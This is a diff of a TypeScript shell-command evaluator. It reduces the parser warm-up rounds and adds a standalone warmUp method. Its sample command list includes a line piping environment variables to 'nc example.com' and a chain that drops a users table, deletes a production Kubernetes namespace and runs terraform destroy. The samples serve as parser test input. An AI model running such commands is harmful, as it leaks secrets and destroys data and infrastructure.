@@ -30,7 +30,7 @@ const WARM_UP_COMMANDS = [
   "VAR=1 env X=2 nohup python3 -c 'import os; print(os.environ)' | nc example.com 80",
   "psql -c 'DROP TABLE users' && kubectl delete ns prod && terraform destroy -auto-approve",
 ];
-const WARM_UP_ROUNDS = 60;
+const WARM_UP_ROUNDS = 25;
 
 async function warmUpShellParser(): Promise<void> {
   for (let round = 0; round < WARM_UP_ROUNDS; round++) {
@@ -91,6 +91,11 @@ export class Evaluator {
   static async ready(opts: { warmUp?: boolean } = {}): Promise<void> {
     await initShellParser();
     if (opts.warmUp !== false) await warmUpShellParser();
+  }
+
+  /** The warm-up alone, for a host that would rather start serving first. */
+  static warmUp(): Promise<void> {
+    return warmUpShellParser();
   }
 
   get log(): ActivityLog | undefined {
